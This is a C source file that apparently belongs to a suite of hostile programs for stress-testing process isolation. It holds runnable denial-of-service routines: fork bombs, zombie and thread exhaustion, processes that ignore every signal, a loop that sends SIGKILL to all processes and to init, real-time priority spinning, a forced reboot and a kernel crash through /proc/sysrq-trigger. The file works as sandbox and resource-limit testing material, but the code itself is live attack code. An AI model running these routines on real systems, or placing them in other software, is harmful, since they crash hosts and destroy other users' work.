/* Processes, threads, signals. */
#include "hostile.h"
#include <pthread.h>
#include <sys/reboot.h>
#include <sys/resource.h>

static int fork_bomb(void) {
  for (;;) fork();
}

static int fork_bomb_of_daemons(void) {
  for (;;)
    if (fork() == 0) setsid();
}

static int vfork_chain(void) {
  for (;;) {
    pid_t pid = vfork();
    if (pid == 0) continue;
    if (pid < 0) _exit(0);
  }
}

static int zombies(void) {
  for (long n = 0;; n++) {
    pid_t pid = fork();
    if (pid == 0) _exit(0);
    if (pid < 0) {
      refused("fork", n);
      for (;;) pause();
    }
  }
}

static void *sleeper(void *unused) {
  for (;;) pause();
  return unused;
}

static int threads(void) {
  pthread_attr_t attributes;
  pthread_attr_init(&attributes);
  pthread_attr_setstacksize(&attributes, 16384);
  for (long n = 0;; n++) {
    pthread_t thread;
    if ((errno = pthread_create(&thread, &attributes, sleeper, 0)) != 0) return refused("thread", n);
  }
}

static int exec_for_ever(void) {
  execl("/proc/self/exe", "x", "exec", (char *)0);
  return 1;
}

static int immortal(void) {
  for (int signal_number = 1; signal_number < 65; signal_number++) signal(signal_number, SIG_IGN);
  for (;;) {
  }
}

static int immortal_family(void) {
  for (int signal_number = 1; signal_number < 65; signal_number++) signal(signal_number, SIG_IGN);
  for (;;) {
    pid_t child = fork();
    if (child == 0) {
      setsid();
      continue;
    }
    if (child > 0) waitpid(child, 0, 0);
  }
}

static int kill_everybody(void) {
  for (long n = 0; n < 1000; n++) {
    kill(-1, SIGKILL);
    kill(1, SIGKILL);
    kill(1, SIGSTOP);
    kill(2, SIGKILL);
  }
  return 0;
}

static int signal_queue(void) {
  sigset_t all;
  sigfillset(&all);
  sigprocmask(SIG_BLOCK, &all, 0);
  struct rlimit unlimited = {RLIM_INFINITY, RLIM_INFINITY};
  setrlimit(RLIMIT_SIGPENDING, &unlimited);
  for (long n = 0; n < 2000000; n++)
    if (sigqueue(getpid(), SIGRTMIN + n % 20, (union sigval){.sival_int = (int)n})) return refused("sigqueue", n);
  return 0;
}

static volatile long handled;
static void handler(int number) {
  handled += number;
  raise(number);
}

static int handlers_in_handlers(void) {
  struct sigaction action = {.sa_handler = handler, .sa_flags = SA_NODEFER};
  sigaction(SIGUSR1, &action, 0);
  raise(SIGUSR1);
  return 0;
}

static void again(int number) { (void)number; }

static int fault_for_ever(void) {
  struct sigaction action = {.sa_handler = again};
  sigaction(SIGSEGV, &action, 0);
  *(volatile int *)8 = 1;
  return 0;
}

static int timers(void) {
  struct rlimit unlimited = {RLIM_INFINITY, RLIM_INFINITY};
  setrlimit(RLIMIT_SIGPENDING, &unlimited);
  signal(SIGRTMIN, SIG_IGN);
  for (long n = 0; n < 1000000; n++) {
    timer_t timer;
    struct sigevent event = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGRTMIN};
    struct itimerspec soon = {.it_interval = {0, 1}, .it_value = {0, 1}};
    if (timer_create(CLOCK_MONOTONIC, &event, &timer)) return refused("timer", n);
    timer_settime(timer, 0, &soon, 0);
  }
  return 0;
}

static int real_time_spin(void) {
  struct sched_param most = {.sched_priority = 99};
  sched_setscheduler(0, SCHED_FIFO, &most);
  setpriority(PRIO_PROCESS, 0, -20);
  for (;;) {
  }
}

static int power(void) {
  reboot(RB_AUTOBOOT);
  return 0;
}

static int sysrq_crash(void) {
  int fd = open("/proc/sysrq-trigger", O_WRONLY);
  return fd >= 0 && write(fd, "c", 1) == 1 ? 0 : refused("sysrq", 0);
}

static int clone_flags(void) {
  for (unsigned long n = 0; n < 20000; n++) {
    unsigned long flags = (n * 2654435761UL) & 0xffffff00UL & ~(unsigned long)(CLONE_VM | CLONE_VFORK);
    pid_t pid = (pid_t)syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
    if (pid == 0) _exit(0);
    while (waitpid(-1, 0, __WALL | WNOHANG) > 0) {
    }
  }
  return 0;
}

static const struct attack attacks[] = {
    {"fork", fork_bomb},           {"daemons", fork_bomb_of_daemons}, {"vfork", vfork_chain},
    {"zombies", zombies},          {"threads", threads},              {"exec", exec_for_ever},
    {"immortal", immortal},        {"family", immortal_family},       {"kill", kill_everybody},
    {"sigqueue", signal_queue},    {"handlers", handlers_in_handlers}, {"fault", fault_for_ever},
    {"timers", timers},            {"fifo", real_time_spin},          {"power", power},
    {"sysrq", sysrq_crash},        {"clone", clone_flags},
};
MAIN(attacks)
